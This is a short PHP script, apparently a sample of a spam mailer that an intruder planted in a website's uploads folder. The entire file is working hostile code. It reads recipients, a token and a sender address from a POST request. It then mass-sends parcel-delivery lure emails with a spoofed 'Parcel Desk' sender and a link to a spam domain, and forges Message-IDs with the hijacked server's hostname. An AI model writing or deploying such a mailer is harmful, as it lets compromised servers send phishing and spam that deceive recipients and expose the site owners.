<?php
// Dropped into an uploads folder by an intruder: one request, many mails.
foreach (explode(',', $_POST['to']) as $i => $to) {
  $n = $_POST['tok'] . sprintf('%04d', $i);
  mail($to, "Your parcel $n is waiting", "Click http://cheap-pills.example/?$n\n",
    "From: \"Parcel Desk\" <{$_POST['from']}>\r\nMessage-ID: <$n@{$_SERVER['HTTP_HOST']}>");
}
echo "OK\n";
